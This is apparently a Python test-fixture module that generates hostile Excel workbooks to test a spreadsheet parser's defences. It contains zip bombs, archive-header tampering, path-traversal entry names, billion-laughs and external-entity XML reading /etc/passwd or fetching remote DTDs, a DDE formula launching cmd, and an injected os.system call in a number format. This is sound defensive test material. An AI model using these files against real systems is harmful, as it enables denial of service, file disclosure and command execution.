"""Workbooks (zip and XML) built to harm: each function writes one file. All texts are ours, all links lead nowhere."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER = '<row r="1"><c r="A1" t="str"><v>a</v></c><c r="B1" t="str"><v>b</v></c></row>'
ROW = '<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c></row>'
SHEET, STRINGS, STYLES, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
TYPES, TOP, LINKED = "[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels"
PARTS = (SHEET, STRINGS, STYLES, BOOK, TYPES, TOP, LINKED)
DECLARED = '<?xml version="1.0" encoding="UTF-8"?>'

Parts = dict[str, str | bytes]


def sheet(rows: str, *, before: str = "", after: str = "") -> str:
    return f"{DECLARED}<worksheet {MAIN}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"


def parts(rows: str = HEADER + ROW, **replaced: str) -> Parts:
    """The parts of a small workbook; `sheet`, `strings`, `styles` replace those parts."""
    package = "http://schemas.openxmlformats.org/package/2006"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return {
        TYPES: f'{DECLARED}<Types xmlns="{package}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{BOOK}" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/{SHEET}" ContentType="{kinds}.worksheet+xml"/></Types>',
        TOP: f'{DECLARED}<Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="r1" Type="{LINKS}/officeDocument" Target="{BOOK}"/></Relationships>',
        BOOK: f'{DECLARED}<workbook {MAIN} xmlns:r="{LINKS}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        LINKED: f'{DECLARED}<Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="r1" Type="{LINKS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{LINKS}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="r3" Type="{LINKS}/styles" Target="styles.xml"/></Relationships>',
        STRINGS: replaced.get("strings", f'{DECLARED}<sst {MAIN} count="1" uniqueCount="1"><si><t>a</t></si></sst>'),
        STYLES: replaced.get("styles", f'{DECLARED}<styleSheet {MAIN}><cellXfs><xf numFmtId="0"/></cellXfs></styleSheet>'),
        SHEET: replaced.get("sheet", sheet(rows)),
    }


def packed(path: Path, files: Mapping[str, str | bytes], *, level: int = 6) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def spun(path: Path, part: str, begin: bytes, piece: bytes, times: int, end: bytes = b"") -> Path:
    """A workbook of which one part is `begin`, `piece` many times over, `end`; deflated without making all of it."""
    block = piece * max(1, (1 << 20) // len(piece))
    count, rest = divmod(times * len(piece), len(block))
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(begin) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)  # what follows a full flush needs nothing before it
    tail = deflate.compress(block[:rest] + end) + deflate.flush(zlib.Z_FINISH)
    crc = zlib.crc32(begin)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    stored = head + body * count + tail
    size = len(begin) + count * len(block) + rest + len(end)
    packed(path, {name: data for name, data in parts().items() if name != part})
    with zipfile.ZipFile(path) as archive:
        start, entries = archive.start_dir, len(archive.infolist())
    data, name = path.read_bytes(), part.encode()
    fields = struct.pack(
        "<HHHHHIIIHH", 20, 0x800, 8, 0, 33, zlib.crc32(block[:rest] + end, crc), len(stored), size, len(name), 0
    )
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, start) + name
    directory = data[start : data.rfind(b"PK\x05\x06")] + entry
    at = start + 30 + len(name) + len(stored)
    closing = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries + 1, entries + 1, len(directory), at, 0)
    path.write_bytes(data[:start] + b"PK\x03\x04" + fields + name + stored + directory + closing)
    return path


# ---- zip -------------------------------------------------------------------------------------


def ratio(path: Path, part: str = SHEET) -> Path:
    """A part that inflates to 1 GB."""
    head = str(parts()[part]).encode()
    cut = head.rfind(b"</")
    return spun(path, part, head[:cut], b" ", 1 << 30, head[cut:])


def nested(path: Path) -> Path:
    """An archive of archives, sixteen deep, the innermost of zeros."""
    data = bytes(10 << 20)
    for depth in range(16):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(16):
                archive.writestr(f"{depth}-{copy}.zip", data)
        data = made.getvalue()
    path.write_bytes(data)
    return path


def overlapping(path: Path, part: str = SHEET, entries: int = 5000) -> Path:
    """Many entries of the directory lead to the same stored bytes."""
    packed(path, parts())
    data = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(part)
        start = archive.start_dir
    at = data.find(b"PK\x01\x02", start)
    while True:  # the directory's entry of that part
        length, extra, comment = struct.unpack("<HHH", data[at + 28 : at + 34])
        size = 46 + length + extra + comment
        if data[at + 46 : at + 46 + length].decode() == part:
            break
        at += size
    entry = data[at : at + size]
    many = [entry[:28] + struct.pack("<H", 16) + entry[30:46] + f"xl/copy{i:09d}".encode() for i in range(entries)]
    directory = data[start : data.rfind(b"PK\x05\x06")] + b"".join(many)
    count = 7 + entries
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(data[:start] + directory + end)
    assert info.file_size
    return path


def crowded(path: Path, entries: int = 60_000) -> Path:
    """Sixty thousand entries."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts().items():
            archive.writestr(name, data)
        for i in range(entries):
            archive.writestr(f"x{i}", b"")
    return path


def lying(path: Path, part: str = SHEET, *, less: bool) -> Path:
    """A part whose stated size is 16 bytes, or 4 GB; it is 64 MB of spaces in truth."""
    spun(path, part, sheet(HEADER + ROW).split("</sheetData>")[0].encode(), b" ", 64 << 20, b"</sheetData></worksheet>")
    data = bytearray(path.read_bytes())
    stated = struct.pack("<I", 16 if less else 0xFFFFFFF0)
    at = -1
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        while (at := data.find(signature, at + 1)) >= 0:
            if data[at + name_at : at + name_at + len(part)] == part.encode():
                data[at + size_at : at + size_at + 4] = stated
        at = -1
    path.write_bytes(data)
    return path


def entries_lie(path: Path) -> Path:
    """The end of the directory speaks of 65,534 entries and of a directory of 4 GB."""
    packed(path, parts())
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x05\x06")
    data[at + 8 : at + 20] = struct.pack("<HHII", 65534, 65534, 0xFFFFFFF0, 0xFFFFFFF0)
    path.write_bytes(data)
    return path


def sixty_four(path: Path) -> Path:
    """A zip64 directory at an offset beyond all disks."""
    packed(path, parts())
    data = path.read_bytes()
    at = data.rfind(b"PK\x05\x06")
    big = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 60, 1 << 62)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path.write_bytes(data[:at] + big + locator + end)
    return path


def wrong_sum(path: Path) -> Path:
    """The checksum of the sheet is another."""
    packed(path, parts())
    data = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        crc = archive.getinfo(SHEET).CRC
    path.write_bytes(data.replace(struct.pack("<I", crc), struct.pack("<I", crc ^ 1)))
    return path


def climbing(path: Path) -> Path:
    """Entries named to be unpacked elsewhere."""
    return packed(path, {**parts(), "../../../tmp/evil": "x", "/etc/evil": "x", "C:\\evil": "x", "a\0b": "x"})


def twice(path: Path) -> Path:
    """Two entries of one name: which one counts?"""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts().items():
            archive.writestr(name, data)
        archive.fp.write(b"")  # type: ignore[union-attr]
        info = zipfile.ZipInfo(SHEET.upper())
        archive.writestr(info, sheet(HEADER))
    return path


# ---- XML -------------------------------------------------------------------------------------

LAUGHS = '<!DOCTYPE x [<!ENTITY a "hahahahaha">' + "".join(
    f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghi", "bcdefghij", strict=True)
)
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>'
PUBLIC = '<!DOCTYPE x PUBLIC "-//x//y" "http://192.0.2.1/x.dtd">'
ENTITIES = {"laughs": LAUGHS + "]>", "quadratic": QUADRATIC, "external": OUTSIDE, "parameter": PARAMETER, "public": PUBLIC}


def with_entities(path: Path, part: str, declared: str) -> Path:
    """A document type in front of one part, and its entity used."""
    text = str(parts()[part]).removeprefix(DECLARED)
    use = "&j;" if "ENTITY j" in declared else "&a;" if "ENTITY a" in declared else ""
    end = text.rfind("</")
    return packed(path, {**parts(), part: DECLARED + declared + text[:end] + use + text[end:]})


def in_utf16(path: Path) -> Path:
    """The document type hidden from who looks for its bytes."""
    text = f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}]><worksheet {MAIN}><sheetData>{HEADER}{ROW}</sheetData></worksheet>'
    return packed(path, {**parts(), SHEET: text.encode("utf-16")})


def late_type(path: Path) -> Path:
    """A document type far behind a comment of 2 MB."""
    text = str(parts()[SHEET]).removeprefix(DECLARED)
    return packed(path, {**parts(), SHEET: f"{DECLARED}<!--{'x' * (2 << 20)}-->{LAUGHS}]>{text}"})


def deep(path: Path) -> Path:
    """A hundred thousand elements within each other."""
    return packed(path, parts(sheet=sheet(HEADER + ROW, before="<a>" * 100_000 + "</a>" * 100_000)))


def attributes(path: Path) -> Path:
    """One element with a hundred thousand attributes, and one value of 20 MB."""
    many = " ".join(f'a{i}="{i}"' for i in range(100_000))
    return packed(path, parts(sheet=sheet(HEADER + ROW, before=f'<sheetPr {many} b="{"x" * (20 << 20)}"/>')))


def long_token(path: Path) -> Path:
    """A start tag that never ends, fed in pieces: quadratic in old parsers (CVE-2023-52425)."""
    return packed(path, parts(sheet=f"{DECLARED}<worksheet {MAIN}><sheetData>{HEADER}<row r='" + "1" * (24 << 20)))


# ---- what a sheet says of itself -------------------------------------------------------------


def unique_count(path: Path) -> Path:
    return packed(
        path, parts(strings=f'{DECLARED}<sst {MAIN} count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>')
    )


def merged(path: Path, ranges: int = 1_000_000) -> Path:
    begin = sheet(HEADER + ROW, after=f'<mergeCells count="{ranges}">').removesuffix("</worksheet>")
    return spun(path, SHEET, begin.encode(), b'<mergeCell ref="A5:XFD1048576"/>', ranges, b"</mergeCells></worksheet>")


def merged_header(path: Path) -> Path:
    """One merged range over the whole sheet."""
    return packed(
        path, parts(sheet=sheet(HEADER + ROW, after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'))
    )


def dimension(path: Path) -> Path:
    return packed(path, parts(sheet=sheet(HEADER + ROW, before='<dimension ref="A1:XFD1048576"/>')))


def corner(path: Path) -> Path:
    last = '<row r="1048576"><c r="XFD1048576" t="str"><v>x</v></c></row>'
    return packed(path, parts(HEADER + ROW + last))


def beyond(path: Path) -> Path:
    """Cells and rows that no sheet has."""
    far = (
        '<row r="999999999999"><c r="ZZZZZZ999999999999" t="str"><v>x</v></c></row><row r="-5"><c r="A-5"><v>1</v></c></row>'
    )
    return packed(path, parts(HEADER + ROW + far))


def far_rows(path: Path) -> Path:
    """Every thousandth row, wide apart, each with one cell in the last column."""
    rows = "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in range(1000, 1_000_000, 1000))
    return packed(path, parts(HEADER + ROW + rows))


def _letters(i: int) -> str:
    name = ""
    i += 1
    while i:
        i, rest = divmod(i - 1, 26)
        name = chr(65 + rest) + name
    return name


def wide_header(path: Path) -> Path:
    """A name in every column the sheet has, and a thousand rows below with one cell each."""
    head = "".join(f'<c r="{_letters(i)}1" t="str"><v>c{i}</v></c>' for i in range(16384))
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>' for r in range(2, 1002))
    return packed(path, parts(f'<row r="1">{head}</row>{rows}'))


def styles(path: Path) -> Path:
    """A million cell styles, each of a number format of its own that repeats an evil code."""
    one = b'<xf numFmtId="164"/>'
    evil = f"{DECLARED}<styleSheet {MAIN}><numFmts><numFmt numFmtId=\"164\" formatCode=\"[>0]&quot;;__import__('os').system('x')&quot;"
    begin = evil + "[" * 5000 + 'y"/></numFmts><cellXfs>'
    return spun(path, STYLES, begin.encode(), one, 1_000_000, b"</cellXfs></styleSheet>")


def cell(path: Path, megabytes: int) -> Path:
    """A cell of many megabytes of text."""
    begin = sheet(HEADER + '<row r="2"><c r="A2" t="inlineStr"><is><t>').split("</sheetData>")[0].encode()
    return spun(
        path, SHEET, begin, b"0123456789abcdef", (megabytes << 20) // 16, b"</t></is></c></row></sheetData></worksheet>"
    )


def random_cell(path: Path, megabytes: int) -> Path:
    """A cell of many megabytes that do not shrink."""
    words = "".join(f"{zlib.crc32(str(i).encode()):08x}" for i in range(1 << 17))
    return spun(path, SHEET, sheet(HEADER + '<row r="2"><c r="A2" t="str"><v>').split("</sheetData>")[0].encode(),
                words.encode(), megabytes, b"</v></c></row></sheetData></worksheet>")  # fmt: skip


def linked_out(path: Path) -> Path:
    """External links, connections, OLE, a web query, DDE: all that would fetch something."""
    outer = 'http://192.0.2.1/x" TargetMode="External'
    relations = str(parts()[LINKED]).replace(
        "</Relationships>",
        f'<Relationship Id="r7" Type="{LINKS}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="r8" Type="{LINKS}/connections" Target="connections.xml"/>'
        f'<Relationship Id="r9" Type="{LINKS}/externalLinkPath" Target="{outer}"/></Relationships>',
    )
    formula = HEADER + '<row r="2"><c r="A2" t="str"><f>DDE("cmd";"/C calc";"x")</f><v>1</v></c>'
    formula += '<c r="B2"><f>[1]Sheet1!A1</f><v>2</v></c></row>'
    link = f'{DECLARED}<externalLink {MAIN}><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    connection = f'{DECLARED}<connections {MAIN}><connection id="1" type="4"><webPr url="http://192.0.2.1/"/></connection></connections>'
    return packed(
        path,
        {
            **parts(formula),
            LINKED: relations,
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships><Relationship Id="r1" Target="{outer}"/></Relationships>',
            "xl/connections.xml": connection,
            "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 100,
        },
    )


def sheet_elsewhere(path: Path, target: str) -> Path:
    """The relation of the sheet leads out of the archive."""
    return packed(path, {**parts(), LINKED: str(parts()[LINKED]).replace("worksheets/sheet1.xml", target)})


def many_sheets(path: Path, count: int = 5000) -> Path:
    """Five thousand sheets that are one part."""
    names = "".join(f'<sheet name="s{i}" sheetId="{i + 1}" r:id="r1"/>' for i in range(count))
    book = f'{DECLARED}<workbook {MAIN} xmlns:r="{LINKS}"><sheets>{names}</sheets></workbook>'
    return packed(
        path, {**parts(sheet("").replace("<sheetData></sheetData>", "<sheetData/>")), BOOK: book, SHEET: sheet("")}
    )


Maker = Callable[[Path], Path]


def far_below(path: Path) -> Path:
    """A name in each of 16,000 columns, and one cell in the last row."""
    head = "".join(f'<c r="{_letters(i)}1" t="str"><v>c{i}</v></c>' for i in range(16_000))
    return packed(path, parts(f'<row r="1">{head}</row><row r="1048576"><c r="A1048576"><v>1</v></c></row>'))
